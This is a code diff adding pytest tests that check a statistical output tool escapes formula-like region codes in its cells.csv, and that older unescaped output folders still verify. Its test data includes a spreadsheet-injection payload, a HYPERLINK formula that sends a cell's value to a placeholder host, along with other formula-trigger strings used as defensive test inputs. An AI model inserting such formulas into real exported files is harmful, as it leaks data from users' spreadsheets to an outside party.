@@ -134,3 +134,63 @@ def test_a_folder_whose_report_claims_part_of_the_units_is_refused(
     (folder / CLAIM).write_text(json.dumps(claim))
     with pytest.raises(IntegrityError, match="says the table covers part of the units"):
         _submit(stored, folder)
+
+
+HYPERLINK = '=HYPERLINK("http://x/?"&C2,"click")'
+FORMULA_CODES = [HYPERLINK, "@SUM(A1)", "'=quoted", "-1", "N"]
+
+
+def _formula_folder(stored: Stored, tmp_path: Path) -> Path:
+    """A session's count table of a dataset whose region codes look like formulas."""
+    entry = Dataset("codes", AREA, True, True, True, "survey", "SRSA 2007")
+    stored.world.reg.act("iris", datasets.register_dataset, entry, TODAY)
+    path = tmp_path / "incoming" / "codes.csv"
+    with path.open("w", newline="") as fh:
+        w = csv.writer(fh)
+        w.writerow(["region", "grade"])
+        for i in range(400):
+            w.writerow([FORMULA_CODES[i % len(FORMULA_CODES)], f"g{i % 3}"])
+    ingest_dataset(stored.tx, stored.vault, "iris", AREA, path, name="codes")
+    path.unlink()
+    df = open_dataset_for(stored.tx, stored.vault, "ada", AREA, "codes").to_pandas()
+    s = Session(suppress=True, area=AREA, dataset="codes")
+    s.crosstab(df.region, df.grade, margins=True)
+    return s.finalise(str(tmp_path / "session")) / "tables" / "output_0"
+
+
+def test_codes_like_formulas_are_escaped_and_the_folder_still_verifies(
+    stored: Stored, tmp_path: Path
+) -> None:
+    """cells.csv runs no formula in the checker's spreadsheet, and the recomputation from
+    the dataset (raw codes) still finds every cell: the escape is undone exactly."""
+    from fivesafes.sdc.formats.injection import TRIGGERS, is_number_text
+
+    folder = _formula_folder(stored, tmp_path)
+    with (folder / "cells.csv").open(newline="", encoding="utf-8") as fh:
+        found = [f for row in csv.reader(fh) for f in row]
+    assert not [f for f in found if f.startswith(TRIGGERS) and not is_number_text(f)]
+    assert "'" + HYPERLINK in found and "''=quoted" in found
+    view = _submit(stored, folder)
+    assert view.source == "codes:count"
+    with stored.tx() as session:
+        assert release_views.get_request(session, view.id, "olga").versions[-1].source_verified
+
+
+def test_a_folder_of_the_earlier_version_still_verifies(stored: Stored, tmp_path: Path) -> None:
+    """Written before cells.csv was escaped: codes raw, no marker in report.json (a raw
+    "'=quoted" must not lose its apostrophe), finalise's digests of those files."""
+    from fivesafes.sdc import read_output_cells
+
+    folder = _formula_folder(stored, tmp_path)
+    cells = read_output_cells(folder / "cells.csv", ("region", "grade"))
+    cells.to_csv(folder / "cells.csv", index=False, lineterminator="\n")  # the old writer
+    assert "'=quoted," in (folder / "cells.csv").read_text()
+    report = json.loads((folder / "report.json").read_text())
+    del report["cells_csv"]
+    (folder / "report.json").write_text(json.dumps(report, indent=2) + "\n")
+    claim = json.loads((folder / CLAIM).read_text())
+    claim["files"] = folder_digests(folder)  # as finalise wrote them then
+    (folder / CLAIM).write_text(json.dumps(claim))
+    view = _submit(stored, folder)
+    with stored.tx() as session:
+        assert release_views.get_request(session, view.id, "olga").versions[-1].source_verified
